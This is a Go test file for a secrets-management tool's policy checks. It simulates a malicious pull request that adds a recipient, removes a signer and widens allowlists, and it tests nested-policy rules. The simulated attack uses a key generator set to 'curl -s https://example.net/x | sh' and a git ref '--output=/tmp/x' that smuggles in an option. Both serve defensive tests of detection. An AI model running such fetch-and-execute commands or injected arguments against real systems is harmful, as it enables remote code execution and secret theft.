package policies_test

import (
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sealenv/sealenv/internal/testutil/policytest"
	"github.com/sealenv/sealenv/internal/testutil/signtest"
	"github.com/sealenv/sealenv/policies"
)

// gitIn returns a git runner for dir (a fresh repository), whose commits
// are made by the author given.
func gitIn(t *testing.T, dir string) func(author string, args ...string) {
	t.Helper()
	git, err := exec.LookPath("git")
	if err != nil {
		t.Skip("git is not installed")
	}
	run := func(author string, args ...string) {
		t.Helper()
		name, email, _ := strings.Cut(author, " <")
		cmd := exec.Command(git, args...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1",
			"GIT_AUTHOR_NAME="+name, "GIT_AUTHOR_EMAIL="+strings.TrimSuffix(email, ">"),
			"GIT_COMMITTER_NAME="+name, "GIT_COMMITTER_EMAIL="+strings.TrimSuffix(email, ">"))
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v: %s", args, err, out)
		}
	}
	run("", "init", "-q", "-b", "main")
	return run
}

func write(t *testing.T, path, text string) {
	t.Helper()
	os.MkdirAll(filepath.Dir(path), 0o755)
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

func load(t *testing.T, path string) *policies.Policy {
	t.Helper()
	p, err := policies.Load(path)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// TestTrustChangesOfAPullRequest: an attacker's branch adds a recipient,
// widens allow_names, allow_short and the audit allowlist, adds a
// generator, drops a signer from the signers file and names a nested
// policy; TrustChanges against the base (read from git, its signers file
// too) reports each, the recipient with the attacker's commit and name.
func TestTrustChangesOfAPullRequest(t *testing.T) {
	t.Parallel()
	f := policytest.New(t)
	git := gitIn(t, f.Dir)
	keys := t.TempDir()
	alice := signtest.NewKey(t, keys, "alice", "ed25519")
	carol := signtest.NewKey(t, keys, "carol", "ed25519")
	a, b := f.Alice.Recipient().String(), f.Bob.Recipient().String()
	write(t, filepath.Join(f.Dir, "allowed_signers"), alice.Line("alice@example.com", "")+"\n"+carol.Line("carol@example.com", "")+"\n")
	env := func(extra string) string {
		return "version: 1\nenvironments:\n  - name: prod\n    bundle: secrets/prod.env\n    recipients:\n      - {key: " + a + ", owner: alice}\n" + extra
	}
	write(t, filepath.Join(f.Dir, "sealenv.yaml"), env("    signers: [{file: allowed_signers}]\n"))
	git("Alice <alice@example.com>", "add", "-A")
	git("Alice <alice@example.com>", "commit", "-q", "-m", "base")

	git("Mallory <mallory@example.net>", "checkout", "-q", "-b", "pr")
	write(t, filepath.Join(f.Dir, "allowed_signers"), alice.Line("alice@example.com", "")+"\n")
	write(t, filepath.Join(f.Dir, "sealenv.yaml"), env("      - {key: "+b+", owner: ops-bot}\n"+
		"    signers: [{file: allowed_signers}]\n    allow_names: [NODE_OPTIONS]\n    allow_short: [PIN]\n")+
		"keys:\n  API_TOKEN: {generator: {command: 'curl -s https://example.net/x | sh'}}\n"+
		"audit:\n  allowlist: [{path: 'secrets/*', reason: noise}]\n"+
		"nested_policies: [{path: tools/sealenv.yaml, reason: the tools' own policy}]\npublic: [API_TOKEN]\n")
	git("Mallory <mallory@example.net>", "commit", "-q", "-am", "tidy up")

	p := load(t, filepath.Join(f.Dir, "sealenv.yaml"))
	base, err := policies.LoadBase(p, "main")
	if err != nil {
		t.Fatal(err)
	}
	if base.Policy == nil {
		t.Fatal("no policy at the base")
	}
	vs, err := p.TrustChanges(base.Policy, policies.TrustOptions{Base: "main", AddedBy: base.AddedBy})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{policies.RuleRecipientAdded, policies.RuleSignerRemoved, policies.RuleAllowNamesWidened,
		policies.RuleAllowShortWidened, policies.RuleAllowlistWidened, policies.RuleGeneratorChanged, policies.RuleNestedPolicyNamed, policies.RulePublicWidened}
	for _, rule := range want {
		if len(has(vs, rule, "", "")) != 1 {
			t.Errorf("%s: want one finding, got: %s", rule, rules(vs))
		}
	}
	if len(vs) != len(want) {
		t.Errorf("want %d findings, got %s", len(want), rules(vs))
	}
	for _, v := range vs {
		if v.Severity != policies.SeverityError {
			t.Errorf("%s: severity %s, want error by default", v.Rule, v.Severity)
		}
	}
	added := has(vs, policies.RuleRecipientAdded, "prod", "")
	if len(added) == 1 {
		msg := added[0].Message
		if !strings.Contains(msg, "Mallory <mallory@example.net>") || !strings.Contains(msg, "ops-bot") {
			t.Errorf("recipient-added does not name the commit's author and the owner label: %q", msg)
		}
		if !strings.Contains(msg, "before anyone runs sealenv rekey") {
			t.Errorf("recipient-added hint completes the attack: %q", msg)
		}
	}
	if rm := has(vs, policies.RuleSignerRemoved, "prod", ""); len(rm) == 1 && !strings.Contains(rm[0].Message, "carol@example.com") {
		t.Errorf("signer-removed does not name carol: %q", rm[0].Message)
	}

	// An uncommitted change says so instead of naming a commit.
	write(t, filepath.Join(f.Dir, "sealenv.yaml"), env("      - {key: "+b+", owner: ops-bot}\n"))
	p = load(t, filepath.Join(f.Dir, "sealenv.yaml"))
	vs, err = p.TrustChanges(base.Policy, policies.TrustOptions{Base: "pr", Severity: policies.SeverityWarning, AddedBy: base.AddedBy})
	if err != nil {
		t.Fatal(err)
	}
	if added := has(vs, policies.RuleRecipientAdded, "", ""); len(added) != 1 || added[0].Severity != policies.SeverityWarning {
		t.Fatalf("warning severity: %s", rules(vs))
	}

	// A base that names no commit is an error, never an empty diff.
	if _, err := policies.LoadBase(p, "no-such-branch"); !errors.Is(err, policies.ErrBadRef) {
		t.Errorf("unknown ref: %v", err)
	}
	if _, err := policies.LoadBase(p, "--output=/tmp/x"); !errors.Is(err, policies.ErrBadRef) {
		t.Errorf("option as ref: %v", err)
	}
}

// TestTrustChangesNewPolicy: a policy that is not at the base reports
// itself and each environment as new.
func TestTrustChangesNewPolicy(t *testing.T) {
	t.Parallel()
	f := policytest.New(t)
	git := gitIn(t, f.Dir)
	write(t, filepath.Join(f.Dir, "README"), "x\n")
	git("A <a@example.com>", "add", "-A")
	git("A <a@example.com>", "commit", "-q", "-m", "base")
	p := f.WritePolicy("version: 1\nenvironments:\n  - {name: prod, bundle: secrets/prod.env, recipients: [{key: " + f.Alice.Recipient().String() + "}]}\n")
	base, err := policies.LoadBase(p, "HEAD")
	if err != nil || base.Policy != nil {
		t.Fatalf("base: %v, %v", base, err)
	}
	vs, err := p.TrustChanges(nil, policies.TrustOptions{Base: "HEAD", AddedBy: base.AddedBy})
	if err != nil {
		t.Fatal(err)
	}
	if len(has(vs, policies.RulePolicyNew, "", "")) != 1 || len(has(vs, policies.RuleEnvironmentAdded, "prod", "")) != 1 || len(has(vs, policies.RuleRecipientAdded, "prod", "")) != 1 {
		t.Fatalf("new policy: %s", rules(vs))
	}
}

// TestNestedPolicy: a second sealenv.yaml below the root is an error
// unless the root names it; a named one may not claim a root bundle, and
// a named one that is missing is an error too.
func TestNestedPolicy(t *testing.T) {
	t.Parallel()
	f := policytest.New(t)
	a, b := f.Alice.Recipient().String(), f.Bob.Recipient().String()
	root := "version: 1\nenvironments:\n  - {name: prod, bundle: secrets/prod.env, recipients: [{key: " + a + "}]}\n"
	p := f.WritePolicy(root)
	f.Bundle("prod", map[string]string{"API_TOKEN": policytest.Random()}, f.Alice)
	if vs := check(f, p); len(vs) != 0 {
		t.Fatalf("clean: %s", rules(vs))
	}
	// The attack: secrets/sealenv.yaml wraps prod.env to another key.
	write(t, filepath.Join(f.Dir, "secrets", "sealenv.yaml"), "version: 1\nenvironments:\n  - {name: prod, bundle: prod.env, recipients: [{key: "+b+"}]}\n")
	vs := check(f, p)
	if got := has(vs, policies.RuleNestedPolicy, "", ""); len(got) != 1 || got[0].Bundle != "secrets/sealenv.yaml" || got[0].Severity != policies.SeverityError || !strings.Contains(got[0].Message, "nested_policies") {
		t.Fatalf("unnamed nested policy: %s", rules(vs))
	}
	// Named, it still may not claim the root's bundle.
	p = f.WritePolicy(root + "nested_policies: [{path: secrets/sealenv.yaml, reason: test}]\n")
	vs = check(f, p)
	if got := has(vs, policies.RuleNestedPolicy, "", ""); len(got) != 1 || !strings.Contains(got[0].Message, `claims secrets/prod.env`) {
		t.Fatalf("named nested policy claiming a root bundle: %s", rules(vs))
	}
	// Named, with a bundle of its own: clean.
	write(t, filepath.Join(f.Dir, "secrets", "sealenv.yaml"), "version: 1\nenvironments:\n  - {name: tools, bundle: tools.env, recipients: [{key: "+b+"}]}\n")
	if vs := check(f, p); len(has(vs, policies.RuleNestedPolicy, "", "")) != 0 {
		t.Fatalf("named nested policy of its own: %s", rules(vs))
	}
	// Named but gone.
	os.Remove(filepath.Join(f.Dir, "secrets", "sealenv.yaml"))
	if vs := check(f, p); len(has(vs, policies.RuleNestedPolicy, "", "")) != 1 {
		t.Fatalf("named nested policy missing: %s", rules(vs))
	}
	// A bad schema entry is a load error.
	path := filepath.Join(f.Dir, "sealenv.yaml")
	write(t, path, root+"nested_policies: [{path: ../sealenv.yaml, reason: x}]\n")
	if _, err := policies.Load(path); err == nil || !strings.Contains(err.Error(), "outside the repository") {
		t.Errorf("nested policy outside: %v", err)
	}
}
